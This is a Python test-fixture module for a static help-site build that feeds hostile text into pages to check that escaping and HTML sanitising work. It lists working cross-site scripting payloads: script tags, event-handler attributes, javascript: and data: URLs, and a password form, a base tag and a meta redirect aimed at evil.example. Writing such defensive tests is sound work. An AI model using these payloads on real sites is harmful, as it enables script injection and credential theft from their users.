"""Hostile text for fixture sites: a knowledge base whose question, answer and guide hold text
that must reach JSON-LD unchanged and never end its <script> element, and one whose titles and
summaries must be shown as written on every surface."""

from __future__ import annotations

import json

from tests.sites import BASE_DOCS

#: Text that must survive into JSON-LD unchanged and never end its <script> element.
HOSTILE = [
    "</script><script>alert(1)</script>",
    "<!--",
    "line\u2028separator and paragraph\u2029separator",
    "\u201ctypographic quotes\u201d, \u2018single\u2019 and \u201elow\u201c",
    "emoji 😀 👩\u200d💻 🇸🇮",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd and \u0645\u0631\u062d\u0628\u0627",
    'back\\slash, "straight quotes" & ampersand',
]


#: The hostile part of the fixture's question (also tried against the page's <title>).
HOSTILE_QUESTION = f"</title>{HOSTILE[0]} {HOSTILE[3]}"


def _markdown_text(text: str) -> str:
    """Markdown that shows `text` literally (HTML-escaped, backslashes doubled). U+2028 and
    U+2029 are written as character references: static-i18n splits the source with
    str.splitlines(), which would turn them into line ends before Markdown sees them."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = text.replace("\u2028", "&#x2028;").replace("\u2029", "&#x2029;")
    return text.replace("\\", "\\\\")


#: A fixture for structured data: hostile text in a question, its answer and a guide, a
#: 20 kB answer, a page switched off in its front matter, and the base's untranslated page.
STRUCTURED_DOCS = {
    **BASE_DOCS,
    "faq/hostile.md": (
        "---\nsummary: Hostile text.\ncategory: contacting-support\nupdated: 2026-11-02\n---\n\n"
        f"# Is {_markdown_text(HOSTILE_QUESTION)} safe? 😀\n\n"
        + "\n\n".join(_markdown_text(text) for text in HOSTILE)
        + "\n\n## Details\n\nAs code: `</script><script>alert(1)</script>` and a"
        " [link](reset-password.md#still-stuck).\n\n| a | b |\n|---|---|\n| one | two |\n\n"
        "!!! note\n\n    An admonition.\n\n```text\n<!-- in a code block -->\n```\n"
    ),
    "faq/hostile.sl.md": (
        "---\nsummary: Sovražno besedilo.\naccept:\n"
        "  - {check: headings, value: Details, reason: the hostile text is enough here}\n---\n\n"
        f"# Ali je {_markdown_text(HOSTILE[0])} varno?\n\n"
        + "\n\n".join(_markdown_text(text) for text in HOSTILE)
        + "\n"
    ),
    "faq/long-answer.md": (
        "---\nsummary: A long answer.\ncategory: contacting-support\n---\n\n"
        "# Why is this answer so long?\n\n"
        + "\n\n".join(
            f"Paragraph {number}: the answer goes on, with *emphasis* and **weight**, "
            f"to make sure a long answer is carried whole ({number * 7919 % 1000})."
            for number in range(1, 201)
        )
        + "\n"
    ),
    "faq/private.md": (
        "---\nsummary: Not for search engines.\ncategory: contacting-support\n"
        "structured_data: false\n---\n\n# Is this page left out?\n\nYes.\n"
    ),
    "faq/private.sl.md": "---\nsummary: Ne.\n---\n\n# Je ta stran izpuščena?\n\nDa.\n",
    "guides/hostile-guide.md": (
        "---\nsummary: Steps.\ncategory: contacting-support\n---\n\n# How to type hostile text\n\n"
        "What this achieves.\n\n## Prepare\n\n"
        f"### Type {_markdown_text(HOSTILE[0])}\n\n{_markdown_text(HOSTILE[2])}\n\n"
        "### Check \u201cquotes\u201d\n\n- one\n- two\n\n## Finish\n\n### Send it\n\nDone 😀.\n"
    ),
}


#: Titles and summaries that every surface must show exactly as written (a listing, the
#: related list, the meta description, JSON-LD, the site search and the widget).
ESCAPE_TEXTS = [
    'Click "Forgot password" on the sign-in page <ABC-123>.',
    "</script><script>alert(2)</script>",
    "& \"quotes\" 'single'",
    "<img src=x onerror=window.kbPwned=1> & \"quotes\" 'single'",
]
#: A category name with the same characters (categories are named in mkdocs.yml).
ESCAPE_CATEGORY = 'Help & "support" <desk>'
#: A word in every hostile entry's answer, to find them all in a search.
ESCAPE_WORD = "quokka"


def _escape_entry(number: int, text: str) -> str:
    """An entry whose title (as written in its heading) and summary are `text`, related to the
    other hostile entries. JSON is YAML, so the summary is written as a JSON string."""
    others = [f"hostile-{other}" for other in range(len(ESCAPE_TEXTS)) if other != number]
    return (
        f"---\nsummary: {json.dumps(text)}\ncategory: hostile-text\n"
        f"related: [{', '.join(others)}]\n---\n\n# {text}\n\nA {ESCAPE_WORD} answer.\n"
    )


#: A knowledge base whose entries have the hostile titles and summaries of ESCAPE_TEXTS.
ESCAPE_DOCS = {
    **BASE_DOCS,
    **{f"faq/hostile-{n}.md": _escape_entry(n, text) for n, text in enumerate(ESCAPE_TEXTS)},
    # A page's own title in its front matter (Material shows it in the header).
    "guides/index.md": (
        f"---\ntitle: {json.dumps(ESCAPE_TEXTS[3])}\n---\n\n# Guides\n\n<!-- kb:guides-index -->\n"
    ),
}
#: Its configuration: the hostile category, and the first hostile entry featured on the home page.
ESCAPE_CONFIG = {
    "extra.kb.categories.hostile-text": {lang: ESCAPE_CATEGORY for lang in ("en", "sl", "lv")},
    "extra.kb.featured": ["hostile-0", "hostile-3"],
}


#: Raw HTML and attribute lists that must never run, load or navigate on the help site, each
#: with what the build names when it takes it out. A payload that ran would set
#: `window.kbPwned` or open a dialog.
HTML_PAYLOADS = [
    (
        '<script>window.kbPwned = "script"; alert("script")</script>',
        ["<script>"],
    ),
    (
        "<img src=\"missing.png\" onerror=\"window.kbPwned = 'img'; alert('img')\">",
        ["the onerror attribute of <img>"],
    ),
    (
        "<svg onload=\"window.kbPwned = 'svg'; alert('svg')\"><circle r=\"5\"/></svg>",
        ["<svg>"],
    ),
    (
        "<details open ontoggle=\"window.kbPwned = 'details'; alert('details')\">"
        "<summary>More</summary>Hidden text</details>",
        ["the ontoggle attribute of <details>"],
    ),
    (
        "A paragraph that wants to be clicked.\n"
        "{ onclick=\"window.kbPwned = 'attr_list'\" onmouseover=\"window.kbPwned = 'hover'\" }",
        ["the onclick attribute of <p>", "the onmouseover attribute of <p>"],
    ),
    (
        "A box that focuses itself.\n"
        '{ tabindex="0" autofocus onfocus="window.kbPwned = \'focus\'" }',
        [
            "the autofocus attribute of <p>",
            "the onfocus attribute of <p>",
            "the tabindex attribute of <p>",
        ],
    ),
    (
        "[Click me](javascript:void(window.kbPwned=1))",
        ["the address javascript:void(window.kbPwned=1)"],
    ),
    (
        '<iframe src="https://evil.example/frame" srcdoc="<script>parent.kbPwned=1</script>"></iframe>',
        ["<iframe>"],
    ),
    (
        '<form action="https://evil.example/collect" method="post">'
        '<input name="password" type="password"><button type="submit">Sign in</button></form>',
        ["<form>", '<input type="password">', "the name attribute of <input>"],
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=window.kbPwned='noscript'>\"></noscript>",
        ["<noscript>"],
    ),
    ('<base href="https://evil.example/">', ["<base>"]),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', ["<meta>"]),
    (
        "[Data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ["the address data:text/html;base64,PHNjcmlwdD5hbGVyd…"],
    ),
    (
        "![Pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        ["the image address data:image/svg+xml;base64,PHN2ZyBvbmxvY…"],
    ),
    ("[VB](vbscript:msgbox(1))", ["the address vbscript:msgbox(1)"]),
    (
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>',
        ["the style attribute of <p>"],
    ),
    ("<style>body { display: none }</style>", ["<style>"]),
    (
        '<object data="https://evil.example/x.swf">Plugin needed</object><embed src="https://evil.example/y.swf">',
        ["<embed>", "<object>"],
    ),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link>"]),
]


def _hostile_body() -> str:
    """Every payload, each in its own block."""
    return "\n\n".join(markdown for markdown, _ in HTML_PAYLOADS) + "\n"


#: Every page type with every payload: home page, a section index, an FAQ entry (and its
#: translation), a guide and an email template.
HTML_DOCS = {
    **BASE_DOCS,
    "index.md": "# Help\n\n<!-- kb:home -->\n\n" + _hostile_body(),
    "faq/index.md": "# FAQ\n\n<!-- kb:faq-index -->\n\n" + _hostile_body(),
    "faq/hostile-html.md": (
        "---\nsummary: Raw HTML.\ncategory: contacting-support\n---\n\n"
        "# Can an answer hold HTML?\n\nSome of it.\n\n" + _hostile_body()
    ),
    "faq/hostile-html.sl.md": (
        "---\nsummary: Surovi HTML.\n---\n\n# Ali odgovor lahko vsebuje HTML?\n\n" + _hostile_body()
    ),
    "guides/hostile-steps.md": (
        "---\nsummary: Steps with HTML.\ncategory: contacting-support\n---\n\n"
        "# How to paste HTML\n\nWhat this achieves.\n\n## Paste it\n\n" + _hostile_body()
    ),
    "templates/hostile-template.md": (
        "---\nsummary: A template with HTML.\nsubjects:\n  - Hello from [company]\n---\n\n"
        "# Hostile template\n\n<!-- kb:subjects -->\n\n" + _hostile_body()
        + '\n```text title="Body"\nHello [name], <script>this is text</script>\n```\n'
    ),
}  # fmt: skip

#: The built pages of HTML_DOCS, one of each type.
HTML_PAGES = ["", "faq/", "faq/hostile-html/", "sl/faq/hostile-html/", "guides/hostile-steps/",
              "templates/hostile-template/"]  # fmt: skip
